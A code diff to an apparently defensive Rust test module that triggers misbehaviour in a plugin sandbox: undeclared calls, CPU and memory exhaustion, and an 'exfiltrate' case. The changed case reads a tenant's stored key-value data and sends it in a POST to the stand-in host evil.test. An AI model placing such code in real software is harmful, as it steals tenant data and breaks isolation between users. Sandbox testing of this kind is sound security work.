@@ -1,6 +1,6 @@
 //! Calling others: without end, without leave, and to carry data where it must not go.
 
-use soma_sdk::tool;
+use soma_sdk::{kv, tool};
 
 use crate::{Outcome, stopped};
 
@@ -18,14 +18,13 @@ pub(crate) fn run(name: &str, argument: &str) -> Outcome {
         "not-declared" => call("nobody", "run", "{}"),
         "other-function" => call("text", "extract", r#"{"text":"x"}"#),
         "bad-arguments" => call("text", "slugify", r#"{"text":7}"#),
-        // The argument is what a secret or a tenant gave us; the sink reaches the internet.
-        "exfiltrate" => call(
-            "sink",
-            "run",
-            &format!(
-                r#"{{"attack":"net.fetch","argument":"POST https://evil.test/drop?{argument}"}}"#
-            ),
-        ),
+        // What the tenant stored here goes to a sink that reaches the internet.
+        "exfiltrate" => {
+            let loot = kv::open("box").map_err(stopped)?.get("box/said").map_err(stopped)?;
+            let loot = String::from_utf8_lossy(&loot.unwrap_or_default()).into_owned();
+            let drop = format!("POST https://evil.test/drop?{loot}{argument}");
+            call("sink", "run", &format!(r#"{{"attack":"net.fetch","argument":"{drop}"}}"#))
+        }
         "burn-child" => call("itself", "run", r#"{"attack":"cpu.loop","argument":""}"#),
         "fill-child" => call("itself", "run", r#"{"attack":"exhaust.memory","argument":""}"#),
         "wait-child" => call("itself", "run", r#"{"attack":"wait.clock","argument":""}"#),
